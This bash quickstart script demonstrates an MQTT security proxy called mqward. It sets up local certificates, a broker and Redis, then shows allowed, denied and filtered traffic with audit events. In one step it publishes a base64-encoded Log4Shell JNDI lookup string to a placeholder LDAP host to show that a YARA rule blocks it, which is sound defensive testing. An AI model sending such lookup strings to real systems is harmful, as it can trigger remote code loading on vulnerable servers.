#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# mqward in a minute, on a bare Debian 12: installs packages, builds, starts a throw-away Mosquitto and Redis with mqward
# between them and the clients, shows what it lets through and what not, and the audit events of each.
#
# Everything runs on loopback, in a temporary folder, and is gone at the end. Run it as often as you like.
# MQWARD_BINARY=/path/to/mqward skips installing for the build and building. KEEP=yes leaves the folder behind.
set -euo pipefail

SOURCE=$(cd "$(dirname "$0")/.." && pwd)
BUILD=${MQWARD_BUILD_ROOT:-$SOURCE/build}/release
WORK=
PIDS=()

title() {
    if [ -t 1 ]; then printf '\n\033[1m%s\033[0m\n' "$*"; else printf '\n%s\n' "$*"; fi
}
fail() {
    printf '\nerror: %s\n' "$*" >&2
    for log in "$WORK"/*.log; do
        [ -s "$log" ] && { echo "--- ${log##*/}"; tail -n 20 "$log"; } >&2
    done
    exit 1
}
cleanup() {
    local status=$?
    trap - EXIT INT TERM
    if [ ${#PIDS[@]} -gt 0 ]; then
        kill "${PIDS[@]}" 2>/dev/null || true
        wait "${PIDS[@]}" 2>/dev/null || true
    fi
    if [ -n "$WORK" ] && [ -n "${KEEP:-}" ]; then
        echo "left behind: $WORK"
    elif [ -n "$WORK" ]; then
        rm -rf "$WORK"
    fi
    exit "$status"
}
trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM

# wait_for SECONDS WHAT COMMAND...
wait_for() {
    local deadline=$((SECONDS + $1)) what=$2
    shift 2
    until "$@" >/dev/null 2>&1; do
        [ "$SECONDS" -lt "$deadline" ] || fail "not in time: $what"
        sleep 0.05
    done
}

free_port() {
    local port
    for _ in $(seq 100); do
        port=$((20000 + RANDOM % 10000))
        if ! (exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null; then
            echo "$port"
            return
        fi
    done
    fail "no free port"
}

# certificate NAME CA EXTENSIONS: NAME.pem and NAME.key, signed by CA.
certificate() {
    openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$1.key" -subj "/CN=$1" -out "$1.csr" 2>/dev/null
    openssl x509 -req -in "$1.csr" -CA "$2.pem" -CAkey "$2.key" -CAcreateserial -days 2 -extfile <(printf '%s\n' "$3") -out "$1.pem" 2>/dev/null
}
authority() {
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$1.key" -subj "/CN=$1" -days 2 -out "$1.pem" 2>/dev/null
}

# as NAME COMMAND...: mosquitto_pub or mosquitto_sub over TLS to mqward with NAME's certificate, MQTT 5.
as() {
    local name=$1
    shift
    "$@" -V mqttv5 -h 127.0.0.1 -p "$PORT" --cafile server-ca.pem --cert "$name.pem" --key "$name.key" -i "$name"
}

# event JQ-CONDITION: waits for the audit event in Redis and prints it.
event() {
    wait_for 10 "an audit event with $1 in Redis" event_seen "$1"
    redis-cli --json -p "$REDIS_PORT" XRANGE mqward:audit - + |
        jq -r "[.[][1][1] | fromjson | select($1)] | last |
               \"   audit: \\(.event.action)  user=\\(.user.name)  topic=\\(.mqtt.topic)  reason=\\(.event.reason)  \" +
               \"rule=\\(.rule.name)  at=\\(.mqward.rule_line // \"-\")  \\(.event.id)\""
}
event_seen() {
    redis-cli --json -p "$REDIS_PORT" XRANGE mqward:audit - + | jq -e "[.[][1][1] | fromjson | select($1)] | length > 0"
}

title "1. Packages"
# shellcheck source=scripts/packages.sh
. "$SOURCE/scripts/packages.sh"
[ -n "${MQWARD_BINARY:-}" ] || "$SOURCE/scripts/install-build.sh"
install_packages mosquitto mosquitto-clients redis-server redis-tools openssl jq
trap cleanup EXIT # install_packages has its own while it runs

title "2. Build"
if [ -n "${MQWARD_BINARY:-}" ]; then
    MQWARD=$MQWARD_BINARY
else
    cmake -S "$SOURCE" --preset release -B "$BUILD" -DMQWARD_TESTS=OFF -DMQWARD_BENCH=OFF >/dev/null
    cmake --build "$BUILD"
    MQWARD=$BUILD/proxy/mqward
fi
"$MQWARD" --version

title "3. Certificates, a broker, a Redis, and mqward"
WORK=$(mktemp -d "${TMPDIR:-/tmp}/mqward-quickstart.XXXXXX")
chmod 755 "$WORK" # Mosquitto gives up root
cd "$WORK"
authority server-ca
authority plant-ca
certificate server server-ca "subjectAltName=DNS:localhost,IP:127.0.0.1"
for name in sensor-17 operator-eva; do
    certificate "$name" plant-ca "extendedKeyUsage=clientAuth"
done

BROKER_PORT=$(free_port)
printf 'listener %s 127.0.0.1\nallow_anonymous true\n' "$BROKER_PORT" >mosquitto.conf
/usr/sbin/mosquitto -c mosquitto.conf >mosquitto.log 2>&1 &
PIDS+=($!)
REDIS_PORT=$(free_port)
redis-server --port "$REDIS_PORT" --bind 127.0.0.1 --dir "$WORK" --save '' --appendonly yes >redis.log 2>&1 &
PIDS+=($!)
wait_for 10 "Mosquitto on port $BROKER_PORT" grep -q running mosquitto.log
wait_for 10 "Redis on port $REDIS_PORT" redis-cli -p "$REDIS_PORT" ping

cp "$SOURCE/examples/quickstart/policy.yaml" .
sed "s/@BROKER_PORT@/$BROKER_PORT/; s/@REDIS_PORT@/$REDIS_PORT/; s|@RULES@|$SOURCE/rules/library|" "$SOURCE/examples/quickstart/mqward.yaml" >mqward.yaml
"$MQWARD" check -c mqward.yaml || fail "the configuration is not good"
"$MQWARD" run -c mqward.yaml 2>mqward.log &
PIDS+=($!)
wait_for 10 "mqward is ready" grep -q 'msg="ready"' mqward.log
PORT=$(sed -n 's/.*msg="listening".*address="\{0,1\}127\.0\.0\.1:\([0-9]*\).*/\1/p' mqward.log)
[ -n "$PORT" ] || fail "mqward does not say where it listens"
echo "clients -> mqward (TLS, port $PORT) -> Mosquitto (port $BROKER_PORT); audit -> Redis (port $REDIS_PORT)"
sed -n '/^rules:/,$p' policy.yaml | sed 's/^/   | /'

title "4. An allowed publish arrives"
as operator-eva exec mosquitto_sub -t 'plant/#' -v -W 60 >operator.log 2>&1 &
PIDS+=($!)
wait_for 10 "the operator's subscription" event_seen '.event.action == "mqtt-subscribe-granted" and .user.name == "operator-eva"'
as sensor-17 mosquitto_pub -q 1 -t plant/sensor-17/temperature -m 21.5 || fail "the publish was not accepted"
wait_for 10 "the message at the operator" grep -q '^plant/sensor-17/temperature 21.5$' operator.log
echo "   operator-eva received: $(cat operator.log)"
event '.event.action == "mqtt-publish-allowed"'

title "5. A publish under another sensor's name is denied"
as sensor-17 mosquitto_pub -q 1 -t plant/sensor-18/temperature -m 99 >publish.log 2>&1 || true
grep -q 'Not authorized' publish.log || fail "the publish was not refused: $(cat publish.log)"
sed 's/^/   mosquitto_pub: /' publish.log
event '.event.action == "mqtt-publish-denied" and .mqtt.topic == "plant/sensor-18/temperature"'

title "6. A subscription that the policy does not cover is denied"
as sensor-17 mosquitto_sub -t 'plant/#' -W 5 >subscribe.log 2>&1 || true
grep -q denied subscribe.log || fail "the subscription was not refused"
sed 's/^/   mosquitto_sub: /' subscribe.log
event '.event.action == "mqtt-subscribe-denied"'

title "7. A delivery is filtered: the operator may read the plant, but no secrets"
as sensor-17 mosquitto_pub -q 1 -t plant/sensor-17/secret/key -m 4711 || fail "the publish was not accepted"
as sensor-17 mosquitto_pub -q 1 -t plant/sensor-17/temperature -m 21.6 || fail "the publish was not accepted"
wait_for 10 "the second message at the operator" grep -q '21.6$' operator.log
if grep -q secret operator.log; then fail "the secret arrived"; fi
echo "   operator-eva received in all: $(tr '\n' ';' <operator.log)"
event '.event.action == "mqtt-delivery-filtered"'

title "8. A payload that a YARA rule knows is refused: a lookup for Log4j, in base64"
LOOKUP=$(printf '{"name":"${jndi:ldap://203.0.113.7/a}"}' | base64 -w 0)
as sensor-17 mosquitto_pub -q 1 -t plant/sensor-17/status -m "{\"config\":\"$LOOKUP\"}" >scan.log 2>&1 || true
grep -q 'Payload format invalid' scan.log || fail "the payload was not refused: $(cat scan.log)"
sed 's/^/   mosquitto_pub: /' scan.log
event '.event.action == "mqtt-payload-blocked"'

title "9. One event as the SIEM reads it (XRANGE mqward:audit)"
redis-cli --json -p "$REDIS_PORT" XRANGE mqward:audit - + |
    jq '[.[][1][1] | fromjson | select(.event.action == "mqtt-publish-denied")] | last'

title "Done. Read on in README.md and docs/."
